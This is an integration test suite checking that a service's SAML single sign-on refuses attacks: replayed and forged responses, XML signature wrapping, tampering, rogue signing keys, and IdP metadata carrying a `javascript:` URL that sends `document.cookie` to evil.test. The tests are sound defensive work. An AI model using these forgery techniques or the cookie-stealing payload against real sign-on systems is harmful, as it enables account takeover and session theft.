import { bearer, INVITATION_SUBJECT, invitationTokenIn } from '../helpers/members.ts';
import { ssoBrowser } from '../helpers/sso-stack.ts';
import { waitForMail } from '../helpers/outbox.ts';
import {
  createSamlIdp,
  generateSigningCertificate,
  serviceProviderFrom,
  type ServiceProviderInstance,
  type TestSamlIdp,
} from '../helpers/saml-idp.ts';
import { startDnsServer, verifyConnectionDomains, type TestDnsServer } from '../helpers/dns-server.ts';
import { registerOwner, startTestStack, type TestStack } from '../helpers/stack.ts';

const PUBLIC_URL = 'http://tocsin.test';
const ACS = `${PUBLIC_URL}/api/v1/sso/callback`;

describe('SAML 2.0 single sign-on against a real identity provider (integration: samlify IdP, real PostgreSQL)', () => {
  let stack: TestStack;
  let idp: TestSamlIdp;
  let sp: ServiceProviderInstance;
  let owner: Awaited<ReturnType<typeof registerOwner>>;
  let connectionId: string;
  let dns: TestDnsServer;

  beforeAll(async () => {
    dns = await startDnsServer();
    stack = await startTestStack({ env: { PUBLIC_URL, SSO_DNS_SERVERS: dns.address } });
    idp = createSamlIdp({
      entityId: 'https://idp.saml.test/metadata',
      ssoUrl: 'https://idp.saml.test/sso',
      ...generateSigningCertificate('tocsin-test-idp'),
    });
    owner = await registerOwner(stack.http, 'saml');
    const created = await stack.http
      .post('/api/v1/sso/connections')
      .set(bearer(owner.token))
      .send({
        name: 'Corporate IdP',
        kind: 'saml',
        domains: ['acme-saml.test'],
        default_role: 'viewer',
        config: { idp_metadata_xml: idp.metadata() },
      })
      .expect(201);
    connectionId = created.body.data.id;
    // Accounts are created only for verified domains.
    await verifyConnectionDomains(stack.http, bearer(owner.token), dns, created.body.data);
    // The IdP is configured the way an administrator does it: from the SP metadata URL.
    const metadata = await stack.http.get(new URL(created.body.data.sp_metadata_url as string).pathname).expect(200);
    expect(metadata.headers['content-type']).toMatch(/^application\/samlmetadata\+xml/);
    sp = serviceProviderFrom(metadata.text);
  });
  afterAll(async () => {
    await stack?.stop();
    await dns?.stop();
  });

  const db = () => stack.orm.em.fork();
  const usersNamed = async (email: string) => db().execute<Array<{ id: string }>>('select id from users where email = ?', [email]);

  /** initiate → the IdP reads the AuthnRequest from the redirect. */
  const initiate = async () => {
    const response = await ssoBrowser(stack).get('/api/v1/sso/initiate').query({ connection_id: connectionId }).expect(302);
    expect(response.headers.location).toMatch(/^https:\/\/idp\.saml\.test\/sso\?SAMLRequest=/);
    return idp.requestIdFrom(sp, response.headers.location as string);
  };
  const post = (samlResponse: string, relayState: string) =>
    ssoBrowser(stack).post('/api/v1/sso/callback').type('form').send({ SAMLResponse: samlResponse, RelayState: relayState });
  const expectRefused = (response: { status: number; body: { code?: string; detail?: string } }, detail: RegExp) => {
    expect({ status: response.status, code: response.body.code }).toEqual({ status: 401, code: 'SSO_FAILED' });
    expect(response.body.detail).toMatch(detail);
  };
  const decode = (base64: string) => Buffer.from(base64, 'base64').toString('utf8');
  const encode = (xml: string) => Buffer.from(xml).toString('base64');

  it('describes the connection with what to register at the IdP, from the parsed IdP metadata', async () => {
    const read = await stack.http.get(`/api/v1/sso/connections/${connectionId}`).set(bearer(owner.token)).expect(200);
    expect(read.body.data).toMatchObject({
      kind: 'saml',
      acs_url: ACS,
      sp_entity_id: `${PUBLIC_URL}/api/v1/sso/saml/${connectionId}/metadata`,
      sp_metadata_url: `${PUBLIC_URL}/api/v1/sso/saml/${connectionId}/metadata`,
      config: {
        idp_entity_id: 'https://idp.saml.test/metadata',
        idp_sso_url: 'https://idp.saml.test/sso',
        idp_certificate: expect.any(String),
        has_sp_private_key: false,
      },
    });
    expect(sp.entityMeta.getEntityID()).toBe(read.body.data.sp_entity_id);
    expect(sp.entityMeta.getAssertionConsumerService('post')).toBe(ACS);
    expect(sp.entityMeta.isWantAssertionsSigned()).toBe(true);
  });

  it('signs a user in with a signed response, creating them with the default role; tokens say auth_method sso', async () => {
    const { requestId, relayState } = await initiate();
    const signedIn = await post(await idp.signedResponse(sp, requestId, 'ann@acme-saml.test'), relayState).expect(200);
    expect(signedIn.body.user).toMatchObject({ email: 'ann@acme-saml.test', role: 'viewer', organization_id: owner.organization.id });
    const me = await stack.http.get('/api/v1/auth/me').set(bearer(signedIn.body.access_token)).expect(200);
    expect(me.body.data.auth_method).toBe('sso');
    const events = await db().execute<Array<{ event_type: string; status_code: number }>>(
      `select event_type, status_code from audit_events where organization_id = ? and event_type in ('sso.user_provisioned', 'sso.login', 'sso.login_refused') order by created_at`,
      [owner.organization.id],
    );
    expect(events).toEqual([
      { event_type: 'sso.user_provisioned', status_code: 201 },
      { event_type: 'sso.login', status_code: 200 },
    ]);
  });

  it('refuses a replayed response, and a replayed assertion under a new request', async () => {
    const first = await initiate();
    const assertionId = `_a${crypto.randomUUID()}`;
    const response = await idp.signedResponse(sp, first.requestId, 'ben@acme-saml.test', { values: { AssertionID: assertionId } });
    await post(response, first.relayState).expect(200);
    expectRefused(await post(response, first.relayState), /already used/);

    // The IdP (or an attacker holding an old assertion) answers a new request with the same assertion.
    const second = await initiate();
    expectRefused(
      await post(
        await idp.signedResponse(sp, second.requestId, 'ben@acme-saml.test', { values: { AssertionID: assertionId } }),
        second.relayState,
      ),
      /assertion was already used/,
    );
    // And a response made for another sign-in's request.
    const third = await initiate();
    const forOther = await initiate();
    expectRefused(await post(await idp.signedResponse(sp, forOther.requestId, 'ben@acme-saml.test'), third.relayState), /InResponseTo/);
  });

  it("refuses a signed IdP-initiated assertion wrapped in a forged Response naming this sign-in's request", async () => {
    // An assertion the IdP issued unsolicited (no InResponseTo inside the signed part), e.g. stolen
    // from another browser; only the unsigned Response around it is made to name a pending request.
    const { requestId, relayState } = await initiate();
    const unsolicited = decode(await idp.signedResponse(sp, '', 'kim@acme-saml.test'));
    const tagEnd = unsolicited.indexOf('>', unsolicited.indexOf('<samlp:Response')) + 1;
    const responseTag = unsolicited.slice(0, tagEnd);
    expect(responseTag).toContain('InResponseTo=""');
    expect(unsolicited.slice(tagEnd)).toContain('InResponseTo=""');
    const forged = responseTag.replace('InResponseTo=""', `InResponseTo="${requestId}"`) + unsolicited.slice(tagEnd);
    expectRefused(await post(encode(forged), relayState), /InResponseTo is missing/);
    expect(await usersNamed('kim@acme-saml.test')).toEqual([]);
  });

  it('refuses an IdP single sign-on URL that is not https, given or from metadata (422)', async () => {
    const create = (config: Record<string, string>) =>
      stack.http
        .post('/api/v1/sso/connections')
        .set(bearer(owner.token))
        .send({ name: 'Plain', kind: 'saml', domains: ['plain-saml.test'], config });
    const given = await create({
      idp_entity_id: 'https://idp.plain.test/metadata',
      idp_sso_url: 'http://idp.plain.test/sso',
      idp_certificate: 'MIIBcert',
    }).expect(422);
    expect(given.body.errors.map((error: { path: string }) => error.path)).toContain('body.config.idp_sso_url');
    // Browsers are sent to the metadata's Location: a javascript: one would run on whoever follows it.
    const scripted = idp.metadata().replace(/Location="[^"]+"/, `Location="javascript:fetch('//evil.test/'+document.cookie)"`);
    expect(scripted).toContain('Location="javascript:');
    const fromMetadata = await create({ idp_metadata_xml: scripted }).expect(422);
    expect(JSON.stringify(fromMetadata.body.errors)).toMatch(/not an https URL/);
  });

  it('refuses a tampered response, creating nothing', async () => {
    const { requestId, relayState } = await initiate();
    const xml = decode(await idp.signedResponse(sp, requestId, 'cat@acme-saml.test'));
    expect(xml).toContain('>cat@acme-saml.test<');
    expectRefused(await post(encode(xml.replace('>cat@acme-saml.test<', '>boss@acme-saml.test<')), relayState), /signature/i);
    expect(await usersNamed('boss@acme-saml.test')).toEqual([]);
    expect(await usersNamed('cat@acme-saml.test')).toEqual([]);
  });

  it('refuses an unsigned response', async () => {
    const { requestId, relayState } = await initiate();
    expectRefused(await post(idp.unsignedResponse(sp, requestId, 'dan@acme-saml.test'), relayState), /signature/i);
    expect(await usersNamed('dan@acme-saml.test')).toEqual([]);
  });

  it('refuses signature wrapping: a forged assertion around the signed one', async () => {
    const { requestId, relayState } = await initiate();
    const xml = decode(await idp.signedResponse(sp, requestId, 'eva@acme-saml.test'));
    const start = xml.indexOf('<saml:Assertion');
    const end = xml.indexOf('</saml:Assertion>') + '</saml:Assertion>'.length;
    const signed = xml.slice(start, end);
    const signatureStart = signed.indexOf('<ds:Signature');
    const signatureEnd = signed.indexOf('</ds:Signature>') + '</ds:Signature>'.length;
    expect(signatureStart).toBeGreaterThan(0);
    const forged = (signed.slice(0, signatureStart) + signed.slice(signatureEnd))
      .replace(/ ID="[^"]+"/, ' ID="_forged"')
      .replace('>eva@acme-saml.test<', '>boss@acme-saml.test<');
    const wrapped = forged.replace('</saml:Assertion>', `${signed}</saml:Assertion>`);
    expectRefused(await post(encode(xml.slice(0, start) + wrapped + xml.slice(end)), relayState), /signature/i);
    // The signed one beside a forged sibling.
    const next = await initiate();
    const xml2 = decode(await idp.signedResponse(sp, next.requestId, 'eva@acme-saml.test'));
    const at = xml2.indexOf('<saml:Assertion');
    expectRefused(await post(encode(xml2.slice(0, at) + forged + xml2.slice(at)), next.relayState), /multiple assertions/);
    expect(await usersNamed('boss@acme-saml.test')).toEqual([]);
    expect(await usersNamed('eva@acme-saml.test')).toEqual([]);
  });

  it('refuses an expired response', async () => {
    const { requestId, relayState } = await initiate();
    const past = (minutes: number) => new Date(Date.now() - minutes * 60_000).toISOString();
    const response = await idp.signedResponse(sp, requestId, 'fay@acme-saml.test', {
      values: {
        IssueInstant: past(20),
        ConditionsNotBefore: past(20),
        ConditionsNotOnOrAfter: past(10),
        SubjectConfirmationDataNotOnOrAfter: past(10),
      },
    });
    expectRefused(await post(response, relayState), /subject confirmation|expired|NotOnOrAfter/i);
    expect(await usersNamed('fay@acme-saml.test')).toEqual([]);
  });

  it('refuses a response for another audience or another recipient', async () => {
    const first = await initiate();
    expectRefused(
      await post(
        await idp.signedResponse(sp, first.requestId, 'gus@acme-saml.test', { values: { Audience: 'https://other-sp.test/metadata' } }),
        first.relayState,
      ),
      /audience/i,
    );
    const second = await initiate();
    expectRefused(
      await post(
        await idp.signedResponse(sp, second.requestId, 'gus@acme-saml.test', { values: { SubjectRecipient: 'https://other-sp.test/acs' } }),
        second.relayState,
      ),
      /Recipient/,
    );
    expect(await usersNamed('gus@acme-saml.test')).toEqual([]);
  });

  it("refuses an email outside the connection's domains, and a user of another organization", async () => {
    const first = await initiate();
    expectRefused(
      await post(await idp.signedResponse(sp, first.requestId, 'hal@elsewhere.test'), first.relayState),
      /not one of this connection's domains/,
    );
    expect(await usersNamed('hal@elsewhere.test')).toEqual([]);

    await stack.http
      .post('/api/v1/auth/register')
      .send({ email: 'ivy@acme-saml.test', password: 'ivy password 123', name: 'Ivy', organization_name: 'Ivy Inc' })
      .expect(201);
    const [ivy] = await usersNamed('ivy@acme-saml.test');
    const second = await initiate();
    expectRefused(
      await post(await idp.signedResponse(sp, second.requestId, 'ivy@acme-saml.test'), second.relayState),
      /another organization/,
    );
    expect(await usersNamed('ivy@acme-saml.test')).toEqual([ivy]);
  });

  it("an assertion naming an existing member's email signs nobody in until that member links the NameID; a transient NameID is refused", async () => {
    // An administrator of the organization, with an address of the connection's domain.
    await stack.http.post('/api/v1/invitations').set(bearer(owner.token)).send({ email: 'kim@acme-saml.test', role: 'admin' }).expect(201);
    const invitation = invitationTokenIn(await waitForMail(stack, 'kim@acme-saml.test', INVITATION_SUBJECT));
    await stack.http.post('/api/v1/invitations/accept').send({ token: invitation, name: 'Kim', password: 'kim password 123' }).expect(201);

    const first = await initiate();
    const refused = await post(await idp.signedResponse(sp, first.requestId, 'kim@acme-saml.test'), first.relayState);
    expectRefused(refused, /not linked to this identity/);
    expect(refused.body.access_token).toBeUndefined();
    const mail = await waitForMail(stack, 'kim@acme-saml.test', /^Link your Tocsin account/);
    const token = /^Link token: (\S+)$/m.exec(mail.body)?.[1] as string;
    await stack.http.post('/api/v1/sso/link/confirm').send({ token }).expect(200);
    const second = await initiate();
    const signedIn = await post(await idp.signedResponse(sp, second.requestId, 'kim@acme-saml.test'), second.relayState).expect(200);
    expect(signedIn.body.user).toMatchObject({ email: 'kim@acme-saml.test', role: 'admin' });

    const third = await initiate();
    const transient = {
      values: {
        NameIDFormat: 'urn:oasis:names:tc:SAML:2.0:nameid-format:transient',
        NameID: `_t${crypto.randomUUID()}`,
        AttributeStatement:
          '<saml:AttributeStatement><saml:Attribute Name="email"><saml:AttributeValue>kim@acme-saml.test</saml:AttributeValue></saml:Attribute></saml:AttributeStatement>',
      },
    };
    expectRefused(
      await post(await idp.signedResponse(sp, third.requestId, 'kim@acme-saml.test', transient), third.relayState),
      /transient NameID/,
    );
  });

  it('refuses a loopback http OIDC issuer when SSO_ALLOW_INSECURE_LOOPBACK_ISSUERS is not set (this stack does not set it)', async () => {
    const created = await stack.http
      .post('/api/v1/sso/connections')
      .set(bearer(owner.token))
      .send({
        name: 'Local',
        kind: 'oidc',
        domains: ['loopback-sso.test'],
        config: { issuer: 'http://127.0.0.1:9', client_id: 'x', client_secret: 'y' },
      })
      .expect(201);
    const refused = await ssoBrowser(stack).get('/api/v1/sso/initiate').query({ connection_id: created.body.data.id }).expect(401);
    expect(refused.body).toMatchObject({ code: 'SSO_FAILED', detail: expect.stringMatching(/is not https/) });
  });

  it('refuses a response signed by another key', async () => {
    const rogue = createSamlIdp({
      entityId: 'https://idp.saml.test/metadata',
      ssoUrl: 'https://idp.saml.test/sso',
      ...generateSigningCertificate('rogue-idp'),
    });
    const { requestId, relayState } = await initiate();
    expectRefused(await post(await rogue.signedResponse(sp, requestId, 'jon@acme-saml.test'), relayState), /signature/i);
    expect(await usersNamed('jon@acme-saml.test')).toEqual([]);
  });
});
